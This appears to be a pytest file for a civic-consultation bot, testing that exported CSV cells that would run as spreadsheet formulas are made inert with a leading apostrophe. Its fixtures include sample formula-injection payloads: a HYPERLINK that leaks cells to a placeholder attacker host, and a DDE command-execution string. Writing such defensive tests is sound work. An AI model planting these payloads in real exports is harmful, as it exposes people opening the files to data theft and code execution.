"""No exported CSV cell is a spreadsheet formula: text that would run is made inert with a `'`."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from bot.commands.export import export_hearing
from bot.emulator import Emulator
from bot.hearing.export import ExportFormat
from bot.hearing.plan import load_plan
from bot.views.export_files import inert
from storage.db import Database
from tests.harness import Hearing, make_settings
from tests.test_export import read_csv, vote

ANA, BILAL, DRAFTER = 4101, 4102, 4199
# What a citizen may post to reach the drafters' spreadsheet (OWASP's examples among them).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Read more")',
    "+1 officer for every school, =1+1",
    "-5% of the budget to prisons; -2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
SAFE = "Fund trauma counselling for victims' families"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # text that looks like a number is still text from a citizen
        ("@A1", "'@A1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\0=1+1", "'\0=1+1"),
        ("a=1+1", "a=1+1"),
        ("'=1+1", "'=1+1"),  # already inert: not quoted twice
        ("", ""),
        (-1, -1),  # a number stays a number
        (-2.5, -2.5),
        (None, None),
    ],
)
def test_only_text_a_spreadsheet_would_run_is_quoted(cell: object, written: object) -> None:
    assert inert(cell) == written


async def test_suggestions_that_are_formulas_are_exported_inert(
    emu: Emulator, tmp_path: Path
) -> None:
    settings = make_settings(tmp_path, drafter_ids=frozenset({DRAFTER}))
    async with Hearing(emu, settings) as hearing:
        ids = [await hearing.suggest(ANA, "3", text) for text in (*FORMULAS, SAFE)]
        await vote(hearing, BILAL, ids[-1], "👎 Disagree")  # Pol.is writes it as -1
        async with Database(settings.database_path) as db:
            for fmt in ExportFormat:
                await export_hearing(db, load_plan(), fmt, tmp_path / fmt, tz=ZoneInfo("UTC"))
        await hearing.say(DRAFTER, "/export")
        packed = hearing.last(DRAFTER).file_bytes
    assert packed is not None
    texts = {r["id"]: r["text"] for r in read_csv(tmp_path / "csv" / "suggestions.csv")}
    assert [texts[str(i)] for i in ids] == [*("'" + f for f in FORMULAS), SAFE]
    comments = read_csv(tmp_path / "polis" / "comments.csv")
    assert [c["comment-body"] for c in comments] == [*("'" + f for f in FORMULAS), SAFE]
    votes = read_csv(tmp_path / "polis" / "votes.csv")
    assert [v["vote"] for v in votes] == ["-1"], "a number: no quote before it"
    with zipfile.ZipFile(io.BytesIO(packed)) as archive:
        sheet = archive.read("suggestions.csv").decode("utf-8")
    drafted = {r["id"]: r["text"] for r in csv.DictReader(io.StringIO(sheet, newline=""))}
    assert drafted == texts, "the drafters' /export zip is written the same way"
    for folder in (tmp_path / "csv", tmp_path / "polis"):
        for path in folder.rglob("*.csv"):
            with path.open(encoding="utf-8", newline="") as handle:
                for row in csv.reader(handle):
                    assert not any(cell.startswith(("=", "+", "@")) for cell in row), path
